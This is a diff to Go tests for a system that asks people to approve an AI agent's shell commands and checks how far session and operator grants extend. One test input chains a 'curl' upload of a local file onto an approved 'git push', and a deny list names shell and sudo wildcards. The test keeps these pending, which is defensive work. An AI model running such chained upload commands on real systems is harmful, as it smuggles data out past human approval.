@@ -53,7 +53,7 @@ func TestFlow_AllowedForTheSession(t *testing.T) {
 	first := r.exec("git push origin main", session("nightly"))
 	card := r.more(r.alice, r.card(first), "Allow session")
 	require.Equal(t, []string{"Allow once", "Deny", "Deny with a reason", "Details", "Allow session", "Always", "Back"}, card.Labels())
-	require.Contains(t, card.Text, "Allow session: any “exec git push” by agent main in this session, up to risk R3, for 12 hours at most.\n"+
+	require.Contains(t, card.Text, "Allow session: any “exec git push” without other options, by agent main in this session, up to risk R3, for 12 hours at most.\n"+
 		"Always: exactly this call by agent main, until an operator deletes the grant.")
 	require.Equal(t, "Allowed for the session by alice.", r.tap(r.alice, r.group, card.ID, "Allow session").Text)
 	r.settled(r.group, card.ID, "allowed for the session by alice")
@@ -68,6 +68,8 @@ func TestFlow_AllowedForTheSession(t *testing.T) {
 		r.tryExec("git push origin fix-7 && curl -d @x https://example.com", session("nightly")),
 		r.tryExec("sudo git push origin fix-7", session("nightly")),
 		r.tryExec("npm publish", session("nightly")),
+		r.tryExec("git push -o ci.skip origin fix-7", session("nightly")),
+		r.tryExec("git push ./fix-7 main", session("nightly")),
 	} {
 		require.EqualValues(t, "pending", other.Status, "%s", other.ParamsSummary)
 	}
@@ -76,6 +78,30 @@ func TestFlow_AllowedForTheSession(t *testing.T) {
 	require.NoError(t, err)
 	require.Equal(t, 1, n)
 	require.EqualValues(t, "pending", r.tryExec("git push origin fix-9", session("nightly")).Status)
+}
+
+// What a program does with its words is not known of every one: there a session's
+// yes is for the very words that people saw, and all of them are shown.
+func TestFlow_AllowedForTheSessionWordForWord(t *testing.T) {
+	r := newRig(t)
+	first := r.exec("frob 'a b' c", session("s1"))
+	card := r.more(r.alice, r.card(first), "Allow session")
+	require.Contains(t, card.Text, `Allow session: any “exec frob 'a b' c (exactly)” by agent main in this session, up to risk R3, for 12 hours at most.`)
+	require.Equal(t, "Allowed for the session by alice.", r.tap(r.alice, r.group, card.ID, "Allow session").Text)
+	require.EqualValues(t, "approved", r.tryExec("frob 'a b' c", session("s1")).Status)
+	require.EqualValues(t, "pending", r.tryExec("frob a b c", session("s1")).Status)
+
+	for _, line := range []string{"frob --password=hunter2hunter2 x", "frob " + strings.Repeat("x", 200), "frob 'a\u200bb'"} {
+		hidden := r.tryExec(line, session("s1"))
+		require.Equal(t, []api.Decision{api.AllowOnce, api.AllowAlways, api.Deny}, hidden.Offers, line)
+		_, err := r.operator().Resolve(r.ctx(), hidden.ID, api.ResolveRequest{Decision: api.AllowSession})
+		requireProblem(t, err, "decision_not_offered")
+		params, err := json.Marshal(map[string]string{"command": line})
+		require.NoError(t, err)
+		e, err := r.operator().Evaluate(r.ctx(), api.CreateRequest{ToolName: "exec", Params: params, SessionKey: "s1", AgentID: "main"})
+		require.NoError(t, err)
+		require.Equal(t, hidden.Offers, e.Offers, line)
+	}
 }
 
 func TestFlow_AlwaysAndTheOperatorsPattern(t *testing.T) {
@@ -98,8 +124,23 @@ func TestFlow_AlwaysAndTheOperatorsPattern(t *testing.T) {
 	require.EqualValues(t, "approved", r.tryExec("git push origin other3").Status)
 	require.EqualValues(t, "pending", r.tryExec("git push --force origin other3").Status)
 	require.EqualValues(t, "pending", r.tryExec("git push upstream other3").Status)
+	require.EqualValues(t, "pending", r.tryExec("git push origin --no-verify").Status, "a star is no option")
 	require.NoError(t, r.operator().EndGrant(ctx, stored.Grant.ID))
 	require.EqualValues(t, "pending", r.tryExec("git push origin other4").Status)
+
+	stored, err = r.operator().AddGrant(ctx, api.GrantRequest{Owner: "agent", AgentID: "main", ToolName: "exec", Pattern: []string{"frob", "--fast", "**"}, MaxRiskClass: "R3"})
+	require.NoError(t, err)
+	require.EqualValues(t, "approved", r.tryExec("frob --fast").Status)
+	require.EqualValues(t, "approved", r.tryExec("frob --fast a b").Status, "a pattern may reach further than a session's yes")
+	require.EqualValues(t, "pending", r.tryExec("frob --fast a --run=x").Status)
+	pattern.Preview, pattern.Pattern = true, []string{"frob", "**"}
+	preview, err = r.operator().AddGrant(ctx, pattern)
+	require.NoError(t, err)
+	require.Empty(t, preview.Covers, "each that ran had an option")
+	pattern.Pattern = []string{"frob", "--fast", "**"}
+	preview, err = r.operator().AddGrant(ctx, pattern)
+	require.NoError(t, err)
+	require.Len(t, preview.Covers, 2)
 
 	for _, bad := range [][]string{{"sh", "-c", "*"}, {"sudo", "git", "push"}, {"python", "-c", "*"}, {"*"}, {"git", "pu*"}, {"env", "git", "**"}} {
 		_, err := r.operator().AddGrant(ctx, api.GrantRequest{Owner: "agent", ToolName: "exec", Pattern: bad, MaxRiskClass: "R3"})
